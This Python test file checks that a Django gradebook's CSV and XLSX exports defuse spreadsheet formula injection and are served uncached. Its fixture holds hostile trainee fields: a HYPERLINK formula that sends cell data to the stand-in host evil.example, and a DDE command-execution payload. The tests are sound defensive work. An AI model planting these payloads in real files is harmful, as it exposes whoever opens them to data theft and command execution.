"""The gradebook's CSV and XLSX exports, downloaded as an instructor would, are safe to open.

A trainee chooses their own name and e-mail; the official opens the file. Nothing the trainee
wrote may reach the spreadsheet as a formula, and the file is not kept in any cache.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.casework import CriterionMark, grade_save, submission_save
from courses.models import CaseStudyPage
from tests import factories

pytestmark = pytest.mark.django_db

# What a curious trainee types into the fields that land in the gradebook.
HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Иванова")',
    "first_name": "+SUM(1,1)",
    "patronymic": "-2+3",
    "email": "=cmd|'/ccalc'!a0@x.ru",
}
FULL_NAME = " ".join([HOSTILE["last_name"], HOSTILE["first_name"], HOSTILE["patronymic"]])


@pytest.fixture
def book(client):
    factories.site_home()
    program = factories.program()
    case = CaseStudyPage.objects.descendant_of(program).get()
    case.title = "@Семья Петровых"  # authors' titles are text too
    case.save()
    [criterion] = factories.rubric(case, [("План помощи", [("Нет плана", "0"), ("План", "4")])])
    cohort = factories.cohort(program)
    trainee = factories.user("Trainee", **HOSTILE)
    factories.enrol(trainee, cohort)
    instructor = factories.user("Instructor")
    cohort.instructors.add(instructor)
    submission = submission_save(
        user=trainee,
        case=case,
        answers={str(case.tasks.get().pk): "План"},
        files=[],
        remove_files=[],
        submit=True,
    )
    level = criterion.levels[1].id
    grade_save(
        grader=instructor,
        submission=submission,
        marks=[CriterionMark(criterion_id=criterion.pk, level_id=level, comment="")],
        comment="",
        release=True,
    )
    client.force_login(instructor)
    return {"cohort": cohort, "case": case}


def download(client, cohort, fmt: str):
    response = client.get(reverse("records:gradebook_export", args=(cohort.pk, fmt)))
    assert response.status_code == 200
    return response


def test_csv_export_quotes_every_value_a_spreadsheet_would_run(client, book):
    response = download(client, book["cohort"], "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, trainee_row = rows[0], rows[1]
    assert trainee_row[0] == "'" + FULL_NAME
    assert trainee_row[1] == "'" + HOSTILE["email"]
    assert "'@Семья Петровых" in header
    # The grade is a number the spreadsheet can add up, not quoted text.
    assert trainee_row[header.index("'@Семья Петровых")] == "100,0"
    for cell in [*header, *trainee_row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_writes_text_cells_never_formulas(client, book):
    response = download(client, book["cohort"], "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert sheet["A2"].value == "'" + FULL_NAME
    assert sheet["B2"].value == "'" + HOSTILE["email"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].number_format == "@"
    case_column = [cell.value for cell in sheet[1]].index("'@Семья Петровых")
    grade = sheet.cell(row=2, column=case_column + 1)
    assert grade.data_type == "n" and Decimal(str(grade.value)) == Decimal("100")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_are_never_cached(client, book, fmt):
    response = download(client, book["cohort"], fmt)

    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == (
        f'attachment; filename="gradebook-{book["cohort"].pk}.{fmt}"'
    )
